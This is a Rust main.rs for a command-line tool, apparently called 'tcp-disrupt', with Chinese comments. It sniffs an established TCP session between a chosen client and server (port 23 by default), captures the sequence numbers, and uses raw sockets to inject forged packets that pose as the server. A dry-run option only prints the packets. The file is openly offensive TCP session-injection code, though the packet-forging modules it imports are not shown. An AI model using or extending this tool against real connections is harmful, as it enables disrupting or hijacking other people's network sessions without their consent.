//! TCP 会话扰乱
//!
//! 被动抓取客户端与服务端之间已建立的 TCP 会话，取得序号状态后
//! 冒充服务端向客户端注入报文。需要原始套接字权限。

use std::path::PathBuf;
use std::process::ExitCode;

use clap::Parser;
use tcp_disrupt_rs::capture::{CaptureContext, EndpointTuple, LiveCapture};
use tcp_disrupt_rs::config::DisruptConfig;
use tcp_disrupt_rs::disrupt::{DryRunSink, Orchestrator, PacketSink, RawTransmitter};
use tcp_disrupt_rs::session::run_session;
use tracing::{error, info};

#[derive(Debug, Parser)]
#[command(name = "tcp-disrupt", about = "抓取指定 TCP 会话的序号状态并注入伪造报文")]
struct Args {
    /// 客户端 IPv4 地址
    #[arg(long)]
    client: String,
    /// 服务端 IPv4 地址
    #[arg(long)]
    server: String,
    /// 服务端端口
    #[arg(long, default_value_t = 23)]
    port: u16,
    /// 抓包接口（缺省自动选择）
    #[arg(long)]
    interface: Option<String>,
    /// JSON 配置文件
    #[arg(long)]
    config: Option<PathBuf>,
    /// 只构造并打印报文，不发送
    #[arg(long)]
    dry_run: bool,
}

fn main() -> ExitCode {
    // 初始化 tracing
    tracing_subscriber::fmt()
        .with_env_filter(
            tracing_subscriber::EnvFilter::try_from_default_env()
                .unwrap_or_else(|_| tracing_subscriber::EnvFilter::new("info")),
        )
        .with_file(true)
        .with_line_number(true)
        .with_target(true)
        .init();

    let args = Args::parse();

    let cfg = match &args.config {
        Some(path) => match DisruptConfig::load(path) {
            Ok(cfg) => cfg,
            Err(e) => {
                error!(%e, "配置加载失败");
                return ExitCode::from(1);
            }
        },
        None => DisruptConfig::default(),
    };

    let endpoints = match EndpointTuple::parse(&args.client, &args.server, args.port) {
        Ok(ep) => ep,
        Err(e) => {
            error!(%e, "端点无效");
            return ExitCode::from(e.exit_code());
        }
    };

    if args.dry_run {
        return ExitCode::from(disrupt(&args, endpoints, Orchestrator::new(DryRunSink::default(), cfg)));
    }

    // 没有原始套接字权限就没有继续的意义
    let tx = match RawTransmitter::open() {
        Ok(tx) => tx,
        Err(e) => {
            error!(%e, "原始套接字不可用");
            return ExitCode::from(e.exit_code());
        }
    };
    ExitCode::from(disrupt(&args, endpoints, Orchestrator::new(tx, cfg)))
}

fn disrupt<S: PacketSink>(args: &Args, endpoints: EndpointTuple, mut orchestrator: Orchestrator<S>) -> u8 {
    let policy = orchestrator.config().payload_policy;
    let mut live = match LiveCapture::open(args.interface.as_deref(), &endpoints) {
        Ok(live) => live,
        Err(e) => {
            error!(%e, "抓包建立失败");
            return e.exit_code();
        }
    };
    info!(device = %live.device, network = %live.net.network, "抓包就绪");
    let mut ctx = CaptureContext::new(live.link, endpoints, policy);

    match run_session(&mut ctx, &mut live, &mut orchestrator) {
        Ok(Some(report)) => {
            info!(
                phase = ?report.phase,
                frames_seen = report.frames_seen,
                sent = report.sent,
                failed = report.failed,
                "扰乱完成"
            );
            println!(
                "disrupted phase={:?} frames_seen={} sent={} failed={}",
                report.phase, report.frames_seen, report.sent, report.failed
            );
            0
        }
        Ok(None) => {
            info!(frames_seen = ctx.frames_seen(), "抓包结束，未命中");
            0
        }
        Err(e) => {
            error!(%e, "抓包失败");
            e.exit_code()
        }
    }
}
